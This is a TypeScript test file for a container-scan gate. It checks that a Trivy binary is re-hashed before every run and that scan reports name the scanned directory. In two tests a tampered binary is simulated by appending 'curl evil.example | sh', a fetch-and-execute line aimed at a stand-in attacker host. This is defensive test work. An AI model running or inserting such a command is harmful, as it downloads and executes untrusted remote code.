// Every Trivy run is preceded by a check that the binary is still the file that was hashed, and a filesystem report must name
// the context this run scanned. A shell script stands in for Trivy here: the point is what the
// gate does *before* running it (refuse changed bytes) and with what it wrote (refuse a report
// about another directory), which real Trivy cannot be made to get wrong.
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { appendFile, chmod, mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runTrivy } from '../../src/adapters/trivy/run-trivy.js';
import { createTrivyScanner } from '../../src/adapters/trivy/scanner.js';
import { copyHashed, sha256OfFile } from '../../src/adapters/trivy/verified-binary.js';
import type { AttachmentRegistry } from '../../src/adapters/attest/attach.js';
import { GateError } from '../../src/domain/gate-error.js';
import { parseTrivyReport } from '../../src/domain/trivy-report.js';
import { readInputs } from '../../src/inputs.js';
import { createLiveAttestPort } from '../../src/live-attest-port.js';

let scratch: string;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), 'csg-i13b-verified-run-'));
});
afterAll(async () => {
  await rm(scratch, { recursive: true, force: true });
});

/** A Trivy stand-in that records each run in `marker` and writes an fs report naming `artifact` (default: its last argument). */
async function fakeTrivy(name: string, marker: string, artifact?: string): Promise<string> {
  const path = join(scratch, name);
  const named = artifact === undefined ? '"$last"' : `'${artifact}'`;
  await writeFile(
    path,
    [
      '#!/bin/sh',
      `echo ran >> '${marker}'`,
      'out=""; last=""; prev=""',
      'for a in "$@"; do [ "$prev" = "--output" ] && out="$a"; prev="$a"; last="$a"; done',
      `[ -n "$out" ] && printf '{"SchemaVersion":2,"ArtifactName":"%s","ArtifactType":"filesystem","Results":[]}' ${named} > "$out"`,
      'exit 0',
      '',
    ].join('\n'),
  );
  await chmod(path, 0o755);
  return path;
}

async function rejection(promise: Promise<unknown>): Promise<GateError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(GateError);
  return error as GateError;
}

const sha256 = async (path: string) => createHash('sha256').update(await readFile(path)).digest('hex');

describe('the verified Trivy is hashed again before every run', () => {
  it('copyHashed writes a private copy (0700) and reports the hash of exactly the bytes it wrote', async () => {
    const marker = join(scratch, 'copy-marker');
    const source = await fakeTrivy('copy-source', marker);
    const copy = await copyHashed(source, join(scratch, 'run-copy'), 'trivy');
    expect(copy.sha256).toBe(await sha256(source));
    expect(await sha256(copy.path)).toBe(copy.sha256);
    const { statSync } = await import('node:fs');
    expect(statSync(copy.path).mode & 0o777).toBe(0o700);
    expect(statSync(join(copy.path, '..')).mode & 0o077).toBe(0);
  });

  it.each([0, 1, 4 * 1024 * 1024 - 1, 4 * 1024 * 1024, 4 * 1024 * 1024 + 1, 9 * 1024 * 1024 + 7])(
    'sha256OfFile gives the SHA-256 of every byte of a %i-byte file (reads around its 4 MiB blocks)',
    async (size) => {
      const file = join(scratch, `hashed-${size}`);
      // Bytes that differ from block to block: a block hashed twice or skipped changes the digest.
      const bytes = Buffer.alloc(size);
      for (let i = 0; i < size; i += 4096) bytes[i] = ((i >>> 12) % 251) + 1;
      await writeFile(file, bytes);
      expect(await sha256OfFile(file)).toBe(createHash('sha256').update(bytes).digest('hex'));
    },
  );

  it('runs an unchanged binary; refuses one changed after verification without running it (trivy-install)', async () => {
    const marker = join(scratch, 'run-marker');
    const binary = await fakeTrivy('trivy-run', marker);
    const recorded = await sha256(binary);
    const request = { trivyPath: binary, trivySha256: recorded, args: ['--version'], cwd: scratch, killAfterMs: 10_000, onLine: () => undefined };

    expect((await runTrivy(request)).exitCode).toBe(0);
    expect(await readFile(marker, 'utf8')).toBe('ran\n');

    await appendFile(binary, 'curl evil.example | sh\n');
    const error = await rejection(runTrivy(request));
    expect(error.reason).toBe('trivy-install');
    expect(error.message).toContain('changed after it was verified');
    expect(error.message).toContain(`expected ${recorded}`);
    expect(error.remedy).toMatch(/compromised/);
    expect(await readFile(marker, 'utf8')).toBe('ran\n');
  });

  it('a same-size rewrite whose modification time is put back is still refused: the change time moved', async () => {
    const marker = join(scratch, 'utimes-marker');
    const binary = await fakeTrivy('trivy-utimes', marker);
    const recorded = await sha256OfFile(binary);
    const request = { trivyPath: binary, trivySha256: recorded, args: ['--version'], cwd: scratch, killAfterMs: 10_000, onLine: () => undefined };
    expect((await runTrivy(request)).exitCode).toBe(0);
    const { stat } = await import('node:fs/promises');
    const { execFileSync } = await import('node:child_process');
    const before = await stat(binary, { bigint: true });
    const original = await readFile(binary, 'utf8');
    // Same length, other bytes, and the old mtime restored to the nanosecond: only the kernel-kept ctime tells.
    await writeFile(binary, original.replace('echo ran', 'echo owt'));
    const ns = before.mtimeNs % 1_000_000_000n;
    execFileSync('touch', ['-m', '-d', `@${before.mtimeNs / 1_000_000_000n}.${ns.toString().padStart(9, '0')}`, binary]);
    const after = await stat(binary, { bigint: true });
    expect([after.size, after.mtimeNs, after.ino]).toEqual([before.size, before.mtimeNs, before.ino]);
    expect(after.ctimeNs).not.toBe(before.ctimeNs);
    const error = await rejection(runTrivy(request));
    expect(error.reason).toBe('trivy-install');
    expect(await readFile(marker, 'utf8')).toBe('ran\n');
  });

  it('the scanner checks before the DB step and before each scan', async () => {
    const marker = join(scratch, 'scanner-marker');
    const binary = await fakeTrivy('trivy-scanner', marker);
    const context = join(scratch, 'context');
    await mkdir(context, { recursive: true });
    const scanner = createTrivyScanner({
      trivyPath: binary,
      trivySha256: await sha256(binary),
      cacheDir: join(scratch, 'cache'),
      timeoutSeconds: 30,
      scanners: ['vuln'],
      dbRepositories: ['127.0.0.1:1/nothing:2'],
      skipDbUpdate: false,
      workDir: join(scratch, 'scanner-work'),
      log: { info: () => undefined, warning: () => undefined },
      retryDelaysMs: [],
    });
    await scanner.prepareDatabase().catch(() => undefined);
    const runsBefore = existsSync(marker) ? (await readFile(marker, 'utf8')).split('\n').length : 0;
    expect(runsBefore).toBeGreaterThan(0);
    await writeFile(binary, '#!/bin/sh\nexit 0\n');
    const error = await rejection(scanner.scanFilesystem(context));
    expect(error.reason).toBe('trivy-install');
    expect((await readFile(marker, 'utf8')).split('\n').length).toBe(runsBefore);
  });
});

describe('the SBOM is made by the verified Trivy only', () => {
  it('the live attest port checks the binary before `trivy convert`, and refuses one changed since it was verified', async () => {
    const marker = join(scratch, 'convert-marker');
    const binary = await fakeTrivy('trivy-convert', marker);
    const recorded = await sha256(binary);
    const runDir = join(scratch, 'attest-run');
    await mkdir(runDir, { recursive: true });
    const values: Record<string, string> = { image: 'ghcr.io/acme/app', context: scratch };
    const inputs = readInputs((name) => values[name] ?? '', { repository: 'acme/app', actor: 'octocat', runnerTemp: scratch, env: {} });
    // writeSbom never touches the registry.
    const port = createLiveAttestPort(inputs, { putManifest: () => Promise.reject(new Error('not used')) } as unknown as AttachmentRegistry, runDir, () => recorded, {});
    const report = parseTrivyReport(JSON.stringify({ SchemaVersion: 2, ArtifactName: 'x', ArtifactType: 'container_image', Results: [] }), 'report.json');

    await appendFile(binary, 'curl evil.example | sh\n');
    const error = await rejection(port.writeSbom(report, binary));
    expect(error.reason).toBe('trivy-install');
    expect(error.message).toContain(`expected ${recorded}`);
    expect(existsSync(marker)).toBe(false);
  });
});

describe('a filesystem report must be about the scanned context', () => {
  function scanner(binary: string) {
    return createTrivyScanner({
      trivyPath: binary,
      cacheDir: join(scratch, 'cache'),
      timeoutSeconds: 30,
      scanners: ['vuln'],
      dbRepositories: [],
      skipDbUpdate: true,
      workDir: join(scratch, `work-${Math.random().toString(16).slice(2)}`),
      log: { info: () => undefined, warning: () => undefined },
    });
  }

  it('accepts the report naming the context', async () => {
    const context = join(scratch, 'ctx-ok');
    await mkdir(context, { recursive: true });
    const report = await scanner(await fakeTrivy('trivy-ok', join(scratch, 'm1'))).scanFilesystem(context);
    expect(report.ArtifactName).toBe(context);
  });

  it.each([
    ['another run’s context', '/tmp/someone-else/context'],
    ['no artifact name', ''],
  ])('refuses a report about %s (scan-error)', async (_label, artifact) => {
    const context = join(scratch, 'ctx-other');
    await mkdir(context, { recursive: true });
    const error = await rejection(scanner(await fakeTrivy(`trivy-other-${artifact.length}`, join(scratch, 'm2'), artifact)).scanFilesystem(context));
    expect(error.reason).toBe('scan-error');
    expect(error.message).toContain(`not the build context ${context}`);
  });
});
